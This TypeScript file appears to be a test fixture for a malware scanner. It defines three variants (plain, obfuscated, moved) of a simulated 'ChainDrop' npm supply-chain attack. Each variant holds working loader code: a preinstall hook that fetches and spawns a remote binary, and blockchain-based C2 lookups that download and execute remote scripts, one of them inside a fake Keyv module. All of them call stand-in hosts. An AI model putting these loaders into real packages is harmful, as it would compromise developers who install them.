import { type Campaign, entry, scripted, tabled } from './kit.ts';

export const campaign: Campaign = {
  id: 'chaindrop',
  row: 'ChainDrop keyv/cacheable 8/2026',
  variants: [
    {
      concealment: 'plain',
      files: scripted(
        { preinstall: 'node setup.mjs' },
        {
          'setup.mjs': `import { execSync, spawn } from 'node:child_process';
import fs from 'node:fs';
import { join } from 'node:path';
const url = 'https://weir.test/oven-sh/bun/releases/download/bun-v1.3.0/bun-linux-x64.zip';
const buf = Buffer.from(await (await fetch(url)).arrayBuffer());
fs.writeFileSync('/tmp/b.zip', buf);
execSync('unzip -o /tmp/b.zip -d /tmp/b');
spawn('/tmp/b/bun', ['run', join(import.meta.dirname, 'dist', 'Math_Symbol.js')], { detached: true, stdio: 'ignore' }).unref();
`,
          'dist/Math_Symbol.js': 'console.log(1);\n',
        },
      ),
    },
    {
      concealment: 'obfuscated',
      files: scripted(
        { preinstall: 'node setup.mjs' },
        {
          'setup.mjs': tabled(
            'rc4',
            (h) => `const cp = await import(${h('node:child_process')});
const r = await fetch(${h('https://rpc.weir.test/')}, { method: ${h('POST')}, body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: ${h('eth_call')}, params: [{ to: ${h(`0x${'be12'.repeat(10)}`)}, data: ${h('0x6d4ce63c')} }, ${h('latest')}] }) });
const c2 = Buffer.from((await r.json()).result.slice(130), ${h('hex')}).toString();
cp[${h('exec')}](await (await fetch(c2)).text());
`,
          ),
        },
      ),
    },
    {
      concealment: 'moved',
      files: entry(`const c2 = async () => {
  const r = await fetch('https://rpc.weir.test/', { method: 'POST', body: JSON.stringify({ method: 'eth_call', params: [{ to: '0x${'be12'.repeat(10)}', data: '0x6d4ce63c' }, 'latest'] }) });
  return Buffer.from((await r.json()).result.slice(2), 'hex').toString();
};
c2().then((u) => fetch(u)).then((r) => r.text()).then((t) => require('vm').runInThisContext(t)(require));
module.exports = class Keyv {};
`),
    },
  ],
};
